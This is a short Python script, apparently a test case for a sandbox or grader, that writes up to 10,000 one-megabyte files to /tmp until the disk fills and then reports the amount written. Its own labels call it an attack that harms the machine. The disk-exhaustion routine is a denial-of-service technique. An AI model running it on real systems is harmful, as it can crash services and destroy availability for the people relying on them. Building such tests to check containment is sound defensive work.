"""Writes files until the disk is full.

harm: machine
must: full
"""

written = 0
for number in range(10_000):
    try:
        with open(f"/tmp/gradfn-attack-{number}", "wb") as file:
            written += file.write(bytes(1 << 20))
    except OSError:
        break
if written > 64 << 20:
    tell(f"{written >> 20} MB written")
